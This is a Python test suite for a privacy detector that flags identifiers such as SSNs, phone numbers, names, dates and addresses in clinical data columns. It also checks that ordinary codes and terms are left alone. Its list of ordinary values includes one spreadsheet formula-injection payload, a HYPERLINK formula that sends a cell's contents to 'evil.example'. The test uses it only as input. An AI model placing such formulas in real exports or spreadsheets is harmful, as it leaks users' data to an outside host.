"""Identifiers by the look of a value: what must be caught, and the ordinary keys, codes and terms to leave alone."""

from __future__ import annotations

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assets.contract import CONTRACT
from assets.contract.checks import allowed_codes
from assets.privacy.identifier_values import (
    DATES,
    IDENTIFIER_VALUES,
    SHORTEST_BYTES,
    Suspicion,
    any_form,
    is_provider_number,
    looks_identifying,
    suspicion,
)

VALUES = {
    "social security numbers": ["219-09-9999", "219 09 9999", " 219-09-9999 ", "SSN: 219-09-9999", "is 219-09-9999."],
    "e-mail addresses": ["a@b.org", "mary.canary+x@clinic.example.com", "mailto:a@b.org"],
    "telephone numbers": [
        "555-010-9999",
        "(555) 010-9999",
        "(555)010-9999",
        "+1 555 010 9999",
        "555.010.9999",
        "1-555-010-9999",
        "+44 20 7946 0958",
        "0044 20 7946 0958",
        "555-010-9999 x12",
        "call 555-010-9999",
    ],
    "calendar dates": [
        "1961-04-17",
        "1961-04-17T10:00:00",
        "1961-04-17 10:00",
        "4/17/61",
        "04/17/1961",
        "04/17/1961 10:00",
        "1961/04/17",
        "17.04.1961",
        "17-04-1961",
        "17 Apr 1961",
        "17-APR-61",
        "April 17, 1961",
        "17th April 1961",
        "seen on 1961-04-17.",
        "04/17/1961 10:00:00 AM",
    ],
    "names of persons": [
        "Mary Canary",
        "CANARY, MARY",
        "Canary,Mary",
        "Mary A. Canary",
        "Mary Ann Canary",
        "Mary O'Brien",
        "Jos\u00e9 M\u00fcller",
        "Anne Smith-Jones",
        "canary, mary",
        "MARY CANARY",
        "M. Canary",
        "Dr. Canary",
        "Mrs Canary",
        "Peabody, MA",
    ],
    "web addresses": ["https://example.org/x", "www.example.org", "see http://example.org"],
    "photographs or files": [
        "face.jpg",
        "IMG_0001.HEIC",
        "data:image/png;base64,iVBORw0KGgo",
        "/9j/4AAQSkZJRg",
        "note.pdf",
    ],
    "IP addresses": ["192.0.2.17", "10.0.0.1", "2001:db8::8a2e:370:7334", "fe80::1", "192.0.2.0/24"],
    "device addresses": ["00:1B:44:11:3A:B7", "00-1b-44-11-3a-b7"],
    "geographic positions": ["42.5342, -70.9697", "42.534202 -70.969734", "41\u00b024'12.2\"N"],
    "street addresses": ["81 Highland Avenue", "313 Lockman Row Suite 4", "12B Main St.", "PO Box 12", "P.O. Box 7"],
    "Medicare numbers": ["1EG4-TE5-MK73", "1EG4TE5MK73"],
    "vehicle identification numbers": ["1HGCM82633A004352", "1M8GDM9AXKP042788"],
    "provider numbers (NPI)": ["1234567893"],
    "free text": [
        "seen with her daughter today",
        "fell off a ladder at work last week",
        "pt says it is worse at night",
    ],
}
ORDINARY_VALUES = [
    "",
    "P1",
    "P-001",
    "E12-month-3",
    "clinic-7",
    "practice-35",
    "a1b2c3d4e5f6",
    "0f8fad5b-d9cb-469f-a165-70867728950e",
    "20250304",
    "5550109999",
    "123456789",
    "12-34-56",
    "1-2",
    "12.5",
    "-7",
    "1e3",
    "NaN",
    "N/A",
    "unknown",
    "dry_needling",
    "usual care",
    "DRY_NEEDLING",
    "Acupuncture",
    "M54.50",
    "G44.2-",
    "LEFT",
    "F",
    "90+",
    "5,5",
    "1,000",
    "v1.2.3",
    "2025",
    "2025-03",
    "03/2025",
    "10/10",
    "site:3.4",
    "Smith",
    "x" * 64,
    "deg",
    "goniometer",
    "=1+1",
    "<b>",
    "None",
    "Low Back Pain",
    "Neck pain, chronic",
    "Dry Needling",
    "Physical Therapy",
    "No Show",
    "Usual Care",
    "Sprain of ankle",
    "Strain of muscle of lower back",
    "Injury of anterior cruciate ligament",
    "1.2.3.4",
    "2.16.840.1.113883",
    "10:30:00",
    "12::34",
    "12-1-3",
    "1234567890",
    "1HGCM82633A004353",
    "1S00A00AA00",
    "7.25",
    "55,5",
    "120/80",
    "2x10 deg",
    "urn:oid:2.16.840",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
]


def found(values: list[str], *, dates: bool = True) -> Suspicion | None:
    """As the gate asks: candidates first, then a closer look."""
    frame = pl.DataFrame({"value": values}, schema={"value": pl.String}).with_row_index("row", offset=1)
    hits = frame.filter(
        (pl.col("value").str.len_bytes() >= SHORTEST_BYTES) & pl.col("value").str.contains(any_form(dates=dates))
    )
    return suspicion(hits.group_by("value").agg(rows=pl.len(), first_row=pl.col("row").min()), len(values), dates=dates)


@pytest.mark.parametrize(("what", "value"), [(what, value) for what, values in VALUES.items() for value in values])
def test_identifying_value(what: str, value: str) -> None:
    assert found(["x", value, value] if what != "free text" else ["x", value]) == Suspicion(
        what, 2 if what != "free text" else 1, 2
    )


def test_every_form_is_tried() -> None:
    assert {form.what for form in IDENTIFIER_VALUES} == set(VALUES)


@pytest.mark.parametrize("value", ORDINARY_VALUES)
def test_ordinary_value(value: str) -> None:
    assert found([value]) is None


def test_no_code_of_the_contract_is_identifying() -> None:
    codes = [
        code for table in CONTRACT.tables for column in table.columns for code in allowed_codes(CONTRACT, table, column)
    ]
    labels = [measure.label for measure in CONTRACT.measures] + [one.label for one in CONTRACT.conditions]
    for text in (*codes, *labels, *(measure.unit for measure in CONTRACT.measures)):
        assert found([text, text]) is None, text


@pytest.mark.parametrize("value", VALUES[DATES])
def test_dates_may_stand_where_they_were_declared(value: str) -> None:
    one = found([value] * 9, dates=False)
    assert one is None or one.what != DATES


@pytest.mark.parametrize(
    "values", [["2025-03", "03/2025", "2025-Q1", "Mar 2025", "2025-W14"], ["20250304", "20241231"] * 3]
)
def test_months_and_compact_dates_count_when_the_column_is_made_of_them(values: list[str]) -> None:
    assert found(values) == Suspicion(DATES, len(values), 1)
    assert found([*values, "20250399", "1999-13"]) is None


def test_forms_that_chance_makes_need_a_share_of_the_rows() -> None:
    keys = [f"{number:010d}" for number in range(1_000_000_000, 1_000_000_100)]
    assert any(map(is_provider_number, keys))
    assert found(keys) is None
    numbers = [key for key in keys if is_provider_number(key)]
    assert found(numbers) == Suspicion("provider numbers (NPI)", len(numbers), 1)
    assert found(["1HGCM82633A004352", *["ordinary"] * 99]) is None


def test_npi_of_the_standard() -> None:
    assert is_provider_number("1234567893")
    assert not any(is_provider_number(f"123456789{digit}") for digit in (0, 1, 2, 4, 5, 6, 7, 8, 9))


def test_long_terms_of_a_list_repeat_and_written_texts_do_not() -> None:
    terms = [
        "Strain of muscle, fascia and tendon of lower back, initial encounter",
        "Other chronic pain of the lower leg",
    ]
    assert found(terms * 3) is None
    assert found([f"was worse on the left side than {number} weeks ago" for number in range(6)]) == Suspicion(
        "free text", 6, 1
    )


def test_the_class_with_most_rows_is_said() -> None:
    assert found(["Mary Canary", "219-09-9999", "219-09-9998"]) == Suspicion("social security numbers", 2, 2)


@settings(max_examples=100)
@given(st.from_regex(r"\A[A-Z]{1,4}[0-9]{1,9}(-[a-z]+)?(-[0-9]{1,3})?\Z"))
def test_keys_of_the_usual_form_pass(key: str) -> None:
    assert found([key]) is None


@settings(max_examples=100)
@given(st.lists(st.uuids().map(str), min_size=1, max_size=20))
def test_uuids_pass(keys: list[str]) -> None:
    assert found(keys) is None


@settings(max_examples=100)
@given(st.lists(st.decimals(-1e6, 1e6, places=3).map(str), min_size=1, max_size=20))
def test_numbers_pass(numbers: list[str]) -> None:
    assert found(numbers) is None


@settings(max_examples=100)
@given(st.lists(st.text(max_size=20), max_size=5))
def test_any_text_is_answered(values: list[str]) -> None:
    """Also where two engines could differ about white space and digits."""
    for text in (values, [f"{value}@{value}.{value}" for value in values], [f"A{value} B" for value in values]):
        answer = found(text)
        assert answer is None or answer.what in VALUES


@settings(max_examples=50)
@given(st.sampled_from([value for values in VALUES.values() for value in values]))
def test_one_expression_finds_all_forms(value: str) -> None:
    assert pl.DataFrame({"x": [value]}).select(looks_identifying(pl.col("x"))).item()
